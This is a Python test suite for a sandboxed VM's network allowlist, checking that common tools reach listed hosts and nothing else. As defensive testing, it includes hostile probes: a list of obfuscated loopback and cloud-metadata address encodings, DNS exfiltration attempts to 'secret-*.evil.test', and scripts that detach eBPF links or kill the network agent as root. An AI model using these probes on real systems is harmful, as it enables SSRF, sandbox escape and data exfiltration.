"""The network with the programs that people use, against servers of the test (outside.py).

Nearly all of them run in one Debian machine, which is built and started once.
"""

import hashlib
import os
import re
import subprocess

import test_net
from lib import check, contains, equal, mirror_reason, skip, test, wait_until
from outside import ADDRESS, FULL, NAMES, PATTERN, PIECE, TRAP, Outside
from test_net import COUNT, NOBODY, PUBLIC, Net, lines

FILES, GIT, PYPI, NPM, DEB, _ = NAMES
PACKAGES = "ca-certificates, curl, git, hey, iproute2, nodejs, python3-pip, wget"
BOXFILE = """\
base: debian/bookworm
cpus: 1
ram_mib: 768
disk_size: 2G
data_size: 64M
packages: [{}]
network: {}
"""
LIST = "\n  allow: [" + ", ".join(
    [f'"{name}:{port}"' for name in NAMES for port in (80, 443, FULL)] +
    [f'"first.tools.test:{COUNT}"', f'"inside.tools.test:{TRAP}"', f'"127.0.0.1:{TRAP}"',
     f'"169.254.169.254:{TRAP}"', f'"[::1]:{TRAP}"']) + "]"
DOWNLOAD = 64 << 20
HERE = os.path.dirname(os.path.abspath(__file__))


class Inside:
    """The machine; what runs in it, and how long that took."""

    def __init__(self, box, outside, name="tools"):
        self.box, self.outside, self.name = box, outside, name

    def run(self, script, code=0, seconds=120):
        result = self.box.exec(script, name=self.name, timeout=seconds).exits(code)
        print(f"{result.seconds:6.1f} s  {script.strip().splitlines()[0][:100]}", flush=True)
        return result

    def says(self, script, wanted, code=0, seconds=120):
        """Its output has this in it."""
        result = self.run(script, code, seconds)
        contains(result.text + result.error, wanted, script)
        return result

    def python(self, script, *arguments, seconds=120):
        result = self.box.run("exec", "-i", self.name, "--", "python3", "-", *arguments,
                              input=script.encode(), timeout=seconds).ok()
        print(f"{result.seconds:6.1f} s  python3 …{script.strip()[-60:]!r}", flush=True)
        return result.text


def trust(inside):
    """The authority of the test alone: to read all of Debian's takes seconds in emulation."""
    with open(inside.outside.certificates.path("ca.crt"), "rb") as file:
        inside.box.run("exec", "-i", inside.name, "--", "sh", "-c",
                       "cat > /etc/ssl/certs/ca-certificates.crt", input=file.read()).ok()


def curl_and_wget(inside):
    hello = f"hello to {FILES}\n"
    for program in ("curl -sS", "wget -qO -"):
        for scheme in ("http", "https"):
            equal(inside.run(f"{program} {scheme}://{FILES}/hello").text, hello, program)
    equal(inside.run(f"curl -sS4 https://{FILES}/hello; curl -sS6 https://{FILES}/hello").text,
          2 * hello, "either kind of address")
    size = 3 * PIECE
    digest = f"{size} {hashlib.sha256(bytes(size)).hexdigest()}\n"
    inside.run(f"head -c {size} /dev/zero > /tmp/zeros")
    equal(inside.run(f"curl -sS --data-binary @/tmp/zeros https://{FILES}/count").text, digest)
    equal(inside.run(f"curl -sST - http://{FILES}/count < /tmp/zeros").text, digest, "in chunks")
    # No name: both say so at once, as for a name that is nowhere.
    inside.says("curl -sS http://other.tools.test/", "Could not resolve host", code=6)
    inside.says("wget -q -O - http://other.tools.test/ || wget http://other.tools.test/",
                "Name or service not known", code=4)
    check("other.tools.test" not in inside.outside.asked, inside.outside.asked)


def servers_that_fail(inside):
    """Early ends, resets, silence: each program says what happened, as it would without box."""
    for scheme in ("http", "https"):
        inside.says(f"curl -sS {scheme}://{FILES}/early -o /dev/null", "transfer closed", code=18)
        inside.says(f"curl -sS {scheme}://{FILES}/reset -o /dev/null", "reset by peer", code=56)
    inside.says(f"wget -q --tries=1 http://{FILES}/early -O /dev/null; echo code $?", "code 4")
    inside.run(f"curl -sS --max-time 2 https://{FILES}/never", code=28)
    inside.says(f"wget --tries=1 --timeout=4 -O - http://{FILES}/never", "timed out", code=4)
    # Nobody answers at all: the program's own limit holds.
    inside.run(f"curl -sS --connect-timeout 2 http://{FILES}:{FULL}/", code=28)
    inside.run(f"curl -sS http://{FILES}:81/", code=7)


def git(inside):
    script = f"""
git clone -q https://{GIT}/project.git /tmp/project && cd /tmp/project && cat readme || exit 1
git config user.name B && git config user.email b@tools.test
echo more >> readme && head -c 300000 /dev/urandom > more && git add . && git commit -qm second
git push -q origin main && git fetch -q && git status -sb"""
    equal(inside.run(script).text, "a project\n## main...origin/main\n")
    bare = os.path.join(inside.outside.folder, "project.git")
    equal(subprocess.run(["git", "-C", bare, "log", "--format=%s"], check=True,
                         capture_output=True).stdout, b"second\nfirst\n")
    inside.says("git ls-remote https://evil.tools.test/x.git", "Could not resolve host", code=128)


def package_managers(inside):
    inside.says(f"pip install -q --break-system-packages --root-user-action=ignore "
                f"--disable-pip-version-check --index-url https://{PYPI}/simple/ boxwheel && "
                "python3 -m boxwheel", "from the wheel")
    inside.says(f"""echo 'deb [trusted=yes] http://{DEB}/debian ./' > /tmp/list
o='-o Dir::Etc::SourceList=/tmp/list -o Dir::Etc::SourceParts=- -q'
apt-get $o update && apt-get $o install -y boxdeb && cat /usr/share/boxdeb/file""",
                "from the package")
    # What a list does not have is told, and apt does not wait for it.
    inside.says("""echo 'deb [trusted=yes] http://evil.tools.test/debian ./' > /tmp/list
apt-get -o Dir::Etc::SourceList=/tmp/list -o Dir::Etc::SourceParts=- -o Acquire::Retries=0 \\
    update""",
                "Could not resolve")


HAPPY = f"""
import asyncio, time
async def main():
    for delay in (None, 0.05):
        reader, writer = await asyncio.open_connection('{FILES}', 80, happy_eyeballs_delay=delay)
        writer.write(b'GET /hello HTTP/1.0\\r\\nHost: {FILES}\\r\\n\\r\\n')
        print((await reader.read()).split(b'\\r\\n')[-1].decode(), end='')
        writer.close()
    try:
        await asyncio.open_connection('{FILES}', 81, happy_eyeballs_delay=0.05)
    except OSError as error:
        print(str(error).count('Errno 111'))
asyncio.run(main())
"""

URLLIB = f"""
import urllib.request, urllib.error
print(urllib.request.urlopen('https://{FILES}/hello', timeout=60).read().decode(), end='')
for url in ('https://evil.tools.test/', 'http://{FILES}:81/', 'https://{FILES}/never'):
    try:
        urllib.request.urlopen(url, timeout=4)
    except (OSError, urllib.error.URLError) as error:
        reason = str(getattr(error, 'reason', error))
        print('timed out' if 'timed out' in reason else reason)
"""


def languages(inside):
    equal(inside.python(URLLIB),
          f"hello to {FILES}\n[Errno -2] Name or service not known\n"
          "[Errno 111] Connection refused\ntimed out\n")
    equal(inside.python(HAPPY), 2 * f"hello to {FILES}\n" + "2\n")
    script = f"""
const urls = ['https://{FILES}/hello', 'https://evil.tools.test/', 'http://{FILES}:81/'];
(async () => {{
  for (const url of urls) {{
    try {{ process.stdout.write(await (await fetch(url)).text()); }}
    catch (error) {{ console.log(error.cause.code); }}
  }}
}})()"""
    equal(inside.run(f"node -e \"$(cat <<'end'\n{script}\nend\n)\"").text,
          f"hello to {FILES}\nENOTFOUND\nECONNREFUSED\n")


# ---- Resolvers ----

def go(inside):
    """Go's own resolver: both kinds at once from two sockets, with EDNS0."""
    result = inside.run("GODEBUG=netdns=go+1 hey -n 60 -c 20 -disable-keepalive "
                        f"https://{FILES}/hello")
    contains(result.text, re.compile(r"\[200\]\s+60 responses"))
    contains(result.error, "Go's resolver")
    contains(inside.run("GODEBUG=netdns=go hey -n 1 -c 1 http://evil.tools.test/").text,
             "no such host")


def build_resolve(folder):
    path = os.path.join(folder, "resolve")
    subprocess.run(["musl-gcc", "-static", "-O2", "-o", path, os.path.join(HERE, "resolve.c")],
                   check=True)
    return path


def musl_and_glibc(inside):
    """Both C libraries, with the settings that change how they ask."""
    inside.box.run("cp", build_resolve(inside.outside.folder), f"{inside.name}:/tmp/resolve").ok()
    found = re.compile(rf"{re.escape(FILES)} (?=.*198\.18\.)(?=.*fd62:6f78:6e65:74)")
    for settings in ("", "options use-vc", "options edns0 trust-ad", "options single-request",
                     "search other.test tools.test\noptions ndots:5"):
        conf = f"printf 'nameserver 198.18.0.1\\n{settings}\\n' > /etc/resolv.conf; "
        contains(inside.run(conf + f"/tmp/resolve {FILES}").text, found, "musl", settings)
        inside.says(f"getent ahosts {FILES}", re.compile(r"198\.18\.0\.\d+ +STREAM"))
    # A short name, by the search list.
    for program in ("/tmp/resolve api.svc", "getent ahosts api.svc"):
        inside.says(program, "198.18.0.")
    inside.says("/tmp/resolve evil.tools.test", "no name")
    inside.run("getent ahosts evil.tools.test", code=2)
    inside.run("printf 'nameserver 198.18.0.1\\n' > /etc/resolv.conf")


def build_rust(folder, *options):
    path = os.path.join(folder, "connect")
    subprocess.run(["rustc", "-O", *options, "-o", path, os.path.join(HERE, "connect.rs")],
                   check=True)
    return path


def rust(inside, program, host, answer, closed):
    """Rust's library goes through the addresses of a name until one connects. answer: with the host."""
    inside.box.run("cp", program, f"{inside.name}:/tmp/connect").ok()
    both = r"(?=.*fd62:6f78:6e65:74).*(198\.18\.[\d.]+).*\n"
    wanted = re.compile(f"{both}{re.escape(answer.format(host))}\n"
                        f"{both}Connection refused \\(os error 111\\)\n")
    text = inside.run(f"/tmp/connect {host}:80 {host}:{closed}").text
    found = wanted.fullmatch(text)
    check(found, text)
    # Nobody is at the first one.
    equal(inside.run(f"""echo multi on > /etc/host.conf
printf '127.0.0.1 two.test\\n{found[1]} two.test\\n' >> /etc/hosts
/tmp/connect two.test:80""").text, f"127.0.0.1 {found[1]}\n{answer.format('two.test')}\n")
    equal(inside.run("/tmp/connect evil.test:80").text,
          2 * "failed to lookup address information: Name or service not known\n")


def rust_in_debian(inside):
    rust(inside, build_rust(inside.outside.folder), FILES, "hello to {}", 81)


# ---- Many, and much ----

MANY = f"""
import resource, select, socket
resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
address = socket.getaddrinfo('first.tools.test', {COUNT}, type=socket.SOCK_STREAM)[0]
poll, socks = select.poll(), []
for number in range(500):
    sock = socket.socket(address[0])
    sock.setblocking(False)
    sock.connect_ex(address[4])
    poll.register(sock, select.POLLOUT)
    socks.append(sock)
# All are open before the first one says anything.
left = len(socks)
while left:
    for number, _ in poll.poll(60000):
        poll.unregister(number)
        left -= 1
for number, sock in enumerate(socks):
    sock.setblocking(True)
    sock.sendall(b'x' * number)
    sock.shutdown(socket.SHUT_WR)
print(sum(int(sock.recv(9)) == number for number, sock in enumerate(socks)))
"""


def many(inside):
    before = len(inside.outside.connected)
    equal(inside.python(MANY), "500\n")
    equal(len(inside.outside.connected) - before, 500)


def much(inside, size):
    digest = hashlib.md5()
    for _ in range(size // PIECE):
        digest.update(PATTERN)
    result = inside.run(f"curl -sS http://{FILES}/bytes/{size} | md5sum", seconds=900)
    contains(result.text, digest.hexdigest())
    wait_until("the download in the log", lambda: any(
        each.get("bytes_down", 0) >= size and each["end"] == "both"
        for each in lines(inside.box, inside.name)))
    print(f"        {size / PIECE / result.seconds:.1f} MiB/s", flush=True)


# ---- What must not get out ----

# Of the host's own, the network's and the cloud's addresses, as programs take them.
SPELLINGS = ["localhost", "127.0.0.1", "127.1", "0x7f000001", "0x7f.1", "2130706433",
             "017700000001", "0", "0.0.0.0", "[::1]", "[::]", "[::ffff:127.0.0.1]",
             "[::ffff:7f00:1]",
             "[::127.0.0.1]", "[64:ff9b::127.0.0.1]", "[64:ff9b::7f00:1]", "[64:ff9b:1::7f00:1]",
             "[2002:7f00:1::]", "[fe80::1%25eth0]", "[fe80::1%251]", "169.254.169.254",
             "0xa9fea9fe", "2852039166", "[::ffff:169.254.169.254]", "[64:ff9b::a9fe:a9fe]",
             "[fd00:ec2::254]",
             "metadata.google.internal", "inside.tools.test", "10.1.2.3", "192.168.0.1",
             "100.100.100.200", "198.18.0.77", "224.0.0.1", "255.255.255.255", "[ff02::1]"]

CONNECT = """
import socket, sys
for host in sys.argv[2:]:
    try:
        socket.create_connection((host, int(sys.argv[1])), 5).close()
        print('reached', host)
    except TimeoutError:
        print('hangs', host)
    except OSError:
        pass
print('done')
"""


def no_way_out(inside):
    """No spelling leads to the host, and none hangs."""
    outside = inside.outside
    outside.control()
    urls = " ".join(f"'http://{each}:{TRAP}/'" for each in SPELLINGS)
    result = inside.box.exec(
        f"curl -gs -o /dev/null --max-time 20 -w '%{{exitcode}} %{{url}}\\n' {urls}",
        name=inside.name)
    codes = [line.split() for line in result.text.splitlines()]
    equal(len(codes), len(SPELLINGS), result)
    # 6: no such name; 7: not connected; 3: curl takes it for no address.
    wrong = [each for each in codes if each[0] not in ("3", "6", "7")]
    equal(wrong, [], "curl")
    hosts = [each.strip("[]").replace("%25", "%") for each in SPELLINGS]
    equal(inside.python(CONNECT, str(TRAP), *hosts), "done\n", "python")
    equal(outside.trapped, [], "reached the host")


LABELS = """
import socket, struct
for number in range(10):
    try:
        socket.getaddrinfo(f'secret-{number}.evil.test', 443)
        print('found')
    except socket.gaierror:
        pass
for server in ('198.18.0.1', '8.8.8.8', '127.0.0.53'):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(20)
    sock.connect((server, 53))
    for kind in (1, 16, 28, 15, 5, 2, 255):
        name = b''.join(bytes([len(each)]) + each for each in (b'secret-raw', b'evil', b'test'))
        try:
            sock.send(struct.pack('>HHHHHH', 7, 256, 1, 0, 0, 0) + name + b'\\0' +
                      struct.pack('>HH', kind, 1))
            answer = sock.recv(512)
        except ConnectionRefusedError:
            # The machine's own loopback.
            continue
        if answer[3] & 15 == 0:
            print('answered', server, kind)
print('done')
"""


def no_labels_get_out(inside):
    inside.says("curl -sS https://secret-curl.evil.test/", "Could not resolve", code=6)
    equal(inside.python(LABELS), "done\n")
    equal([name for name in inside.outside.asked if "secret" in name or "evil" in name], [])


UNLOAD = """
import ctypes, struct
def bpf(command, *words):
    data = ctypes.create_string_buffer(struct.pack(f'{len(words)}I', *words), 128)
    code = ctypes.CDLL(None, use_errno=True).syscall(321, command, data, 128)
    return code, struct.unpack_from('2I', data)[1]
NEXT_LINK, LINK_BY_ID, DETACH = 31, 30, 34
number = count = 0
while True:
    code, number = bpf(NEXT_LINK, number, 0)
    if code:
        break
    link, _ = bpf(LINK_BY_ID, number)
    count += bpf(DETACH, link)[0] == 0
print(count)
"""

KILL = """
import os, signal
for each in filter(str.isdigit, os.listdir('/proc')):
    try:
        if open(f'/proc/{each}/comm').read() == 'box-net-agent\\n':
            os.kill(int(each), signal.SIGKILL)
            print('killed')
    except FileNotFoundError:
        pass
"""


def without_its_parts(inside, script, wanted):
    """Root of the guest takes the network's parts away: nothing is reached, and nothing hangs."""
    outside = inside.outside
    equal(inside.run(f"curl -sS http://{FILES}/hello").text, f"hello to {FILES}\n")
    equal(inside.python(script), wanted)
    before = len(outside.accepted)
    for host in (FILES, ADDRESS, "198.18.0.16"):
        result = inside.box.exec(f"curl -sS --max-time 60 http://{host}/hello", name=inside.name)
        check(result.code in (6, 7), result)
    equal(inside.python(CONNECT, "80", ADDRESS, "127.0.0.1", "10.1.2.3", "169.254.169.254"),
          "done\n")
    equal((outside.accepted[before:], outside.trapped), ([], []), "reached without the agent")


# ---- Networks that the guest makes ----

NETWORKS = f"""set -e
inner() {{ ip netns exec inner "$@"; }}
# Behind a bridge, and behind a router that is behind it.
ip -batch - <<end
netns add router
netns add inner
link add br0 type bridge
link add near type veth peer name outer netns router
link set near master br0
link set br0 up
link set near up
addr add 10.88.0.1/24 dev br0
addr add fd00:88::1/64 dev br0 nodad
route add 10.89.0.0/24 via 10.88.0.2
route add fd00:89::/64 via fd00:88::2
end
ip -n router -batch - <<end
link add lower type veth peer name outer netns inner
link set lo up
link set outer up
link set lower up
addr add 10.88.0.2/24 dev outer
addr add fd00:88::2/64 dev outer nodad
addr add 10.89.0.1/24 dev lower
addr add fd00:89::1/64 dev lower nodad
route add default via 10.88.0.1
route add default via fd00:88::1
end
ip -n inner -batch - <<end
link set lo up
link set outer up
addr add 10.89.0.2/24 dev outer
addr add fd00:89::2/64 dev outer nodad
route add default via 10.89.0.1
route add default via fd00:89::1
end
ip netns exec router sh -c 'echo 1 > /proc/sys/net/ipv4/ip_forward
echo 1 > /proc/sys/net/ipv6/conf/all/forwarding'
# As strict as a kernel is about where a packet comes from.
for each in all br0; do echo 1 > /proc/sys/net/ipv4/conf/$each/rp_filter; done
ip netns exec router curl -sS http://{FILES}/hello
inner curl -sS4 https://{FILES}/hello
inner curl -sS6 https://{FILES}/hello
inner curl -s http://evil.tools.test/ || echo $?
inner curl -s http://{FILES}:81/ || echo $?
inner curl -s --max-time 20 http://169.254.169.254:{TRAP}/ || echo $?
"""


def networks_made_inside(inside):
    hello = f"hello to {FILES}\n"
    equal(inside.run(NETWORKS).text, 3 * hello + "6\n7\n7\n")
    equal(inside.outside.trapped, [])


def build(box, packages=PACKAGES):
    """Before this process leaves the network that the mirror is in."""
    if mirror_reason():
        skip(mirror_reason())
    box.make("tools", BOXFILE.format(packages, LIST))
    box.run("build", "tools", timeout=1200).ok()


@test(home="empty", timeout=2400, long=True)
def programs_reach_what_is_listed_and_nothing_else(box):
    build(box)
    inside = Inside(box, Outside(box))
    with box.up(name="tools"):
        trust(inside)
        for part in (curl_and_wget, servers_that_fail, git, package_managers, languages, go,
                     musl_and_glibc, rust_in_debian, many, no_way_out, no_labels_get_out,
                     networks_made_inside):
            part(inside)
        much(inside, DOWNLOAD)
        without_its_parts(inside, UNLOAD, "1\n")
    with box.up(name="tools"):
        without_its_parts(inside, KILL, "killed\n")
    box.write_boxfile("tools", BOXFILE.format(PACKAGES, "bridge"))
    with box.up(name="tools"):
        no_way_out(inside)


@test(home="copy", timeout=420)
def a_rust_program_with_nothing_beside_it(box):
    """Linked with glibc, whose files are not in the machine."""
    net = Net(box)
    test_net.build(box)
    with box.up(name="net"):
        rust(Inside(box, net, "net"), build_rust(net.folder, "-C", "target-feature=+crt-static"),
             "good.test", f"hello from {PUBLIC}", NOBODY)


@test(home="empty", timeout=2400, long=True)
def npm_and_a_gibibyte(box):
    """By themselves: npm alone is as large as all the others, and slow in emulation."""
    build(box, "ca-certificates, curl, npm")
    inside = Inside(box, Outside(box))
    with box.up(name="tools"):
        trust(inside)
        inside.says(f"cd /tmp && npm install --registry https://{NPM}/ --no-audit --no-fund "
                    "boxpackage && node -e 'require(\"boxpackage\")'", "from the package",
                    seconds=600)
        much(inside, 1 << 30)
